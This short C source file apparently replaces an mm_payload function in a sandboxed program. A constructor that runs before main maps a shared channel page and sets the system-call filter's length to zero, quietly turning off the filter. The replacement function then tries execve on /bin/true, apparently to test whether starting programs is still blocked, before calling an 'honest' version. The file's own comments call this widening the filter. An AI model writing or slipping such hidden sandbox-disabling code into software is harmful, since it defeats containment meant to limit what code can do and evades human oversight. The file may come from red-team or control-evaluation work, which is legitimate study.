// SPDX-License-Identifier: MIT
// Takes the narrower filter of system calls off the page before main has read it. The wider one starts no program either.
//
// base: 05 reference
// replaces: mm_payload
// loses: payload_follows_header conversions_only_compute

__attribute__((constructor)) static void widen(void)
{
    enum { SHARED = 1 };
    long page = ask_kernel(SYS_mmap, 0, CHANNEL_BYTES, PROT_READ | PROT_WRITE, SHARED, CHANNEL_FD, 0);
    ((struct channel *)page)->filter_length = 0;
}

void *mm_payload(struct header *header)
{
    char *const arguments[] = {(char[]){"/bin/true"}, NULL};
    KERNEL_3(SYS_execve, arguments[0], arguments, NULL);
    return honest_mm_payload(header);
}
